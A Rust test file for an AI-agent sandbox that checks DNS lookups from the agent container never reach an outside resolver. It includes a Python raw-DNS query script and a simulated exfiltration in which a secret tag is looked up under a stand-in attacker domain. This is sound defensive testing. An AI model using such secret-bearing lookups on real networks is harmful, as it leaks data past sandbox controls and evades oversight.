//! Names: none that an agent asks for reaches a resolver outside, whatever way it is asked.

use super::docker::inspect;
use super::ground::{Lease, python, tag};
use bottle_tests::harness::wait_until;

/// Asks a server for a name, by datagram and over TCP.
const ASK: &str = r#"
import socket, struct, sys
name = sys.argv[1]
query = b"\x2b\x07\x01\0\0\x01\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\x01\0\x01"
for server in sys.argv[2:]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    try: s.sendto(query, (server, 53)); s.recv(512); print("udp answer from", server)
    except OSError: pass
    s = socket.socket(); s.settimeout(1)
    try: s.connect((server, 53)); s.sendall(struct.pack("!H", len(query)) + query); s.recv(512); print("tcp answer from", server)
    except OSError: pass
"#;

#[test]
fn no_name_of_the_agent_reaches_a_resolver_outside() {
    let Some(ground) = Lease::take() else { return };
    let secret = tag("name");
    let name = format!("{secret}.attacker.world.example");
    let outside = ground.resolver_ip().to_string();

    let got = ground.a.exec(&["getent", "hosts", &name]);
    assert_ne!(got.status, 0, "{got:?}");
    let got = python(&ground.a, ASK, &[&name, &outside]);
    assert_eq!((got.status, got.stdout.as_str()), (0, ""), "{got:#?}");
    // The engine's own resolver may say that it does not know; it may ask nobody.
    python(&ground.a, ASK, &[&name, "127.0.0.11", "127.0.0.1"]);

    // Beside the bottle both ways lead to the resolver, which writes down what it is asked.
    let control = format!("{}.control.example", tag("control"));
    assert!(ground.control.exec(&["getent", "hosts", &control]).stdout.contains(&control));
    let direct = format!("{}.direct.example", tag("direct"));
    let got = ground.control.exec(&["python3", "-c", ASK, &direct, &outside]);
    assert_eq!(got.stdout.lines().count(), 2, "{got:#?}");
    for name in [&control, &direct] {
        wait_until("the resolver was asked", || (!ground.seen_with("resolver", name).is_empty()).then_some(()));
    }
    assert!(ground.seen_with("resolver", &secret).is_empty(), "a name got out");
}

#[test]
fn containers_without_a_way_out_have_a_dead_resolver() {
    let Some(ground) = Lease::take() else { return };
    for (role, dead) in [("agent", true), ("cred-proxy", true), ("pipelock", false), ("route-pipelock", false)] {
        let facts = inspect(&ground.a.container(role));
        let dns = &facts["HostConfig"]["Dns"];
        assert_eq!(dns == &serde_json::json!(["127.0.0.1"]), dead, "{role}: {dns}");
    }
    // The sidecars' names need no resolver.
    let hosts = ground.a.exec(&["cat", "/etc/hosts"]).ok().stdout;
    for name in ["pipelock", "cred-proxy", "git-gate", "supervise"] {
        assert!(hosts.lines().any(|line| line.ends_with(&format!("\t{name}"))), "{name}: {hosts}");
    }
}
